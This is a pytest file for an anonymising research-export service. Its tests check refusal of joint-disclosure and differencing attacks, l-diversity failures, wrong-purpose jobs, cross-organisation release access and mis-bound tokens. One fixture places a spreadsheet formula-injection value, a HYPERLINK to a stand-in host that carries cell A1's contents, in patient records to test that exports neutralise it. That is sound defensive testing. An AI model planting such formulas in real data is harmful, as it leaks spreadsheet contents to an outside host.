"""Attacks on releases through the anonymiser's own routes: RI1, RI2, RI4, RI6, OP3, OT5, OL6 and SC5."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import text
from support.research_app import Running, running
from support.research_people import Someone
from support.research_requests import CONDITION, SEX, decades, wish
from support.research_world import OTHER_UNIVERSITY, UNIVERSITY, URLS, World

from consent.vocabulary import Body, Purpose
from services.contracts.research.messages import JobAnswer, JobRequest
from services.contracts.research.table import read_table
from services.kit.http import RemoteProblemError

K = 5


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Running]:
    with running(World(tmp_path)) as found:
        yield found


def crowd(count: int) -> list[Someone]:
    return [
        Someone(
            f"person-{number}",
            birth_year=1950 + (7 * number) % 40,
            sex="female" if number % 2 else "male",
            condition=("asthma", "migraine", "gout")[number % 3],
        )
        for number in range(count)
    ]


def submit(served: Running, request: JobRequest) -> JobAnswer:
    return served.research().submit(request, token=served.world.token(UNIVERSITY))


def fetch(served: Running, answer: JobAnswer) -> bytes:
    assert answer.release is not None
    return served.research().release(answer.release.id, token=served.world.token(UNIVERSITY))


def test_exports_that_are_anonymous_only_one_by_one_are_refused(served: Running) -> None:
    """RI1: exports that are each k-anonymous, but cut at other years than the one that is held."""
    people = crowd(40)
    served.world.settle(people)
    first = submit(served, wish(decades(0), suppression_limit=0.3))
    assert first.release is not None
    for origin in (2, 4, 6, 8):
        shifted = wish(decades(origin), suppression_limit=0.3)
        other = served.world.token(OTHER_UNIVERSITY)
        if origin == 2:
            alone = served.research(OTHER_UNIVERSITY).submit(shifted, token=other)
            assert alone.release is not None, "by itself it is anonymous"
        with pytest.raises(RemoteProblemError) as problem:
            submit(served, shifted)
        assert problem.value.code == "joint_disclosure"
        assert problem.value.members["releases"] == [first.release.id]
    assert fetch(served, first), "what was released before stands"


@pytest.mark.parametrize("change", ["withdrawn", "joined"])
def test_same_export_after_one_persons_change_is_refused(served: Running, change: str) -> None:
    """RI2, SC5: the difference of two exports would be one person."""
    *people, last = crowd(31)
    served.world.settle(people)
    if change == "withdrawn":
        served.world.permit(served.world.enrol(last))
    first = submit(served, wish(decades(), SEX, suppression_limit=0.5))
    if change == "withdrawn":
        served.world.withdraw(last)
    else:
        served.world.permit(served.world.enrol(last))
    with pytest.raises(RemoteProblemError) as problem:
        submit(served, wish(decades(), SEX, suppression_limit=0.5))
    assert problem.value.code == "joint_disclosure"
    assert fetch(served, first), "what was released before stands"


def test_export_after_many_withdrew_has_none_of_them(served: Running) -> None:
    """SC5: whoever withdrew is in no later export, and it is released once enough have gone."""
    people = crowd(40)
    served.world.settle(people)
    submit(served, wish({**SEX, "level": 1}))
    for each in people[:10]:
        served.world.withdraw(each)
    answer = submit(served, wish({**SEX, "level": 1}))
    assert answer.release is not None
    assert answer.release.persons == 30


def test_class_with_one_sensitive_value_is_refused(served: Running) -> None:
    """RI4: all women of the table have one condition; asking for no diversity does not help."""
    people = crowd(20)
    for each in people:
        each.condition = "gout" if each.sex == "female" else each.condition
    served.world.settle(people)
    with pytest.raises(RemoteProblemError) as problem:
        submit(served, wish({**SEX, "level": 0}, CONDITION))
    assert problem.value.code == "not_anonymous"
    with pytest.raises(RemoteProblemError) as problem:
        submit(served, wish({**SEX, "level": 0}, {**CONDITION, "diversity": 1}))
    assert problem.value.code == "not_anonymous"


def test_refusals_are_counted_until_nothing_new_is_decided(tmp_path: Path) -> None:
    """RI5: learning from refusals; each one is charged, and after the last all others look the same."""
    with running(World(tmp_path), refusals=2) as served:
        served.world.settle(crowd(40))
        held = submit(served, wish(decades(0), suppression_limit=0.3))
        refused = []
        for origin in (2, 4, 6, 8):
            with pytest.raises(RemoteProblemError) as problem:
                submit(served, wish(decades(origin), suppression_limit=0.3))
            refused.append(problem.value.members["reasons"])
        with pytest.raises(RemoteProblemError) as problem:
            submit(served, wish(decades(0), {**SEX, "level": 0}, k=40, suppression_limit=0.3))
        assert refused[2] == refused[3] == problem.value.members["reasons"], "another failure looks the same"
        assert refused[1] != refused[2]
        with served.context.database.read() as conn:
            charged = conn.execute(text("SELECT id FROM ledger_entry WHERE kind = 'refusal'")).scalars()
            assert sorted(charged) == [2, 3]
        assert fetch(served, submit(served, wish(decades(0), suppression_limit=0.3))), (
            "the same again may leave"
        )
        assert fetch(served, held)


def test_rows_of_two_exports_stand_in_unrelated_order(served: Running) -> None:
    """RI6: the same table twice; position tells nothing."""
    served.world.settle(crowd(36))
    request = wish({**SEX, "level": 1}, CONDITION)
    first, second = (read_table(fetch(served, submit(served, request))) for _ in range(2))
    assert sorted(row["condition"] for row in first) == sorted(row["condition"] for row in second)
    assert first != second, "36 rows of three values each agree by chance once in 10^15"


@pytest.mark.parametrize("purpose", [Purpose.TREAT, Purpose.ETREAT, Purpose.PATRQT])
def test_job_for_another_purpose_is_refused_and_opens_nothing(served: Running, purpose: Purpose) -> None:
    """OP3: people who permitted treatment to the anonymiser are no research subjects, nor the other way round."""
    people = crowd(12)
    for each in people:
        served.world.permit(served.world.enrol(each), purpose=purpose)
    with pytest.raises(RemoteProblemError) as problem:
        submit(served, wish(SEX, purpose=purpose))
    assert problem.value.code == "other_purpose"
    with pytest.raises(RemoteProblemError) as problem:
        submit(served, wish(SEX))
    assert problem.value.code == "not_anonymous"
    assert not any(sign.isdigit() for sign in problem.value.detail), "not even that there were none"
    assert [each["purpose"] for each in served.events()] == [purpose.value, "HRESCH"]


def test_formula_in_a_record_leaves_as_text(served: Running) -> None:
    """OT5: a condition that a spreadsheet would run; the round trip keeps the value."""
    people = crowd(12)
    for each in people[:6]:
        each.condition = '=HYPERLINK("http://x.test/?"&A1)'
    served.world.settle(people)
    content = fetch(served, submit(served, wish({**SEX, "level": 1}, CONDITION)))
    cells = [cell for row in csv.reader(io.StringIO(content.decode(), newline="")) for cell in row]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
    assert sum(row["condition"].startswith("=HYPERLINK") for row in read_table(content)) == 6


def test_another_organisations_researcher_gets_nothing_of_a_release(served: Running) -> None:
    """OL: known release and job ids are worth nothing to others, and the try is logged."""
    served.world.settle(crowd(12))
    answer = submit(served, wish({**SEX, "level": 1}))
    assert answer.release is not None
    other = served.world.token(OTHER_UNIVERSITY)
    with pytest.raises(RemoteProblemError) as known:
        served.research(OTHER_UNIVERSITY).release(answer.release.id, token=other)
    with pytest.raises(RemoteProblemError) as unknown:
        served.research(OTHER_UNIVERSITY).release("unknown", token=other)
    assert known.value.members == unknown.value.members, "it is not even told that it exists"
    event = served.events()[-2]
    assert (event["kind"], event["outcome"], event["organisation"]) == (
        "release_fetched",
        "refused",
        "institute",
    )


def test_token_for_another_body_or_terminal_opens_nothing(served: Running) -> None:
    """OL6: audience and terminal are bound."""
    world = served.world
    for token, terminal in (
        (world.token(UNIVERSITY, audience=URLS[Body.MEDICAL]), UNIVERSITY),
        (world.token(UNIVERSITY), OTHER_UNIVERSITY),
    ):
        with pytest.raises(RemoteProblemError) as problem:
            served.research(terminal).submit(wish(SEX), token=token)
        assert problem.value.status == 401
